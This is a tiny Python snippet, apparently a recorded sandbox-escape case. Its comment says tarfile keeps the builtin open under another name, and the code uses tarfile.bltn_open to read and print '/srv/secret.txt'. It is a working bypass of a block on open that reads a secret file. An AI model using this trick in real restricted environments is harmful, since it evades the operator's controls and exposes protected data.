# reaches: tarfile keeps the builtin open under another name
import tarfile
print(tarfile.bltn_open("/srv/secret.txt").read())
